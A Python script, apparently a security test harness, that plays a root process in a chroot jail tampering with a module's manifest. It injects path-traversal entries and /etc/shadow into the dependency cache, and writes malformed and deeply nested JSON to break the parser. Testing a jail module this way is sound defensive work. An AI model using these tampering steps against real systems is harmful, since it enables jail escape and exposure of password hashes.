"""uid 0 inside a jail rewrites the module's manifest in the jail: tamper.py JAIL MODE [VICTIMS]

The manifest is read and written by /bin/cat and /bin/sh run inside the jail with chroot(8):
what a root process confined to the jail (no capabilities needed) can do. When the jail holds
no manifest (the module keeps its state elsewhere), one is planted.

MODE steer: VICTIMS is a JSON list of {"entry": "/../victim", "type": "file" or "dir"}; add
  each entry to the managed entries, and add /etc/shadow to the cached dependency list of /bin/sh and /bin/cat. The stat
  figures the cache needs are taken on the host here; they stand for what an attacker guesses.
MODE garbage: write a manifest whose dependency cache is a string.
MODE deep: write a manifest nested 20000 deep, deeper than Python's parser recurses.
"""
import json
import os
import subprocess
import sys

MANIFEST = "/.serversec-jail.json"
CACHED_BINARIES = ("/bin/sh", "/bin/cat")
INJECTED = "/etc/shadow"


def stat_sig(path, follow):
    st = os.stat(path) if follow else os.lstat(path)
    return [st.st_size, st.st_mtime_ns, st.st_ino]


def read_manifest(jail):
    found = subprocess.run(["chroot", jail, "/bin/cat", MANIFEST], capture_output=True, check=False)
    try:
        data = json.loads(found.stdout.decode())
    except (ValueError, RecursionError):
        data = None
    if not isinstance(data, dict):
        data = {}
    data["version"] = 1
    for key in ("managed", "deps"):
        if not isinstance(data.get(key), dict):
            data[key] = {}
    return data, found.returncode == 0


def steer(data, victims):
    for victim in victims:
        data["managed"][victim["entry"]] = {"type": victim["type"]}
    ldcache = stat_sig("/etc/ld.so.cache", False) if os.path.lexists("/etc/ld.so.cache") else None
    for binary in CACHED_BINARIES:
        real = os.path.realpath(binary)
        entry = data["deps"].get(real)
        if not isinstance(entry, dict):
            entry = data["deps"][real] = {"sig": stat_sig(real, False), "ldcache": ldcache, "deps": [], "dep_sigs": []}
        if INJECTED not in entry["deps"]:
            entry["deps"].append(INJECTED)
            entry["dep_sigs"].append(stat_sig(INJECTED, True))


def main():
    jail, mode = sys.argv[1:3]
    data, existed = read_manifest(jail)
    if mode == "steer":
        steer(data, json.loads(sys.argv[3]))
        text = json.dumps(data, sort_keys=True, indent=1)
    elif mode == "garbage":
        text = json.dumps({"version": 1, "jail": jail, "managed": {}, "deps": "not a cache"})
    elif mode == "deep":
        text = '{"version": 1, "managed": {}, "deps": {}, "x": ' + "[" * 20000 + "]" * 20000 + "}"
    else:
        sys.exit(f"unknown mode {mode}")
    subprocess.run(
        ["chroot", jail, "/bin/sh", "-c", f'umask 077; printf "%s\\n" "$1" > {MANIFEST}', "sh", text], check=True
    )
    print(json.dumps({"manifest_existed": existed, "written": MANIFEST}))


if __name__ == "__main__":
    main()
